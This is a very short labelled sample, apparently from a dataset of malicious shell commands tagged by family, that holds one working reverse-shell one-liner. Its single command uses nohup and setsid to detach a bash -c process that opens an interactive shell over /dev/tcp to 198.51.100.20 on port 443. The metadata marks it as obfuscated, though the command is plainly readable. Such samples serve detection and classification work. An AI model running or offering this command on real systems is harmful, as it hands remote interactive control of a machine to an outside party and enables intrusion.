# description: Detaches a bash -c reverse shell with nohup and setsid.
# family: reverse-shell
# obfuscated: yes
nohup setsid bash -c 'bash -i >& /dev/tcp/198.51.100.20/443 0>&1' >/dev/null 2>&1 &
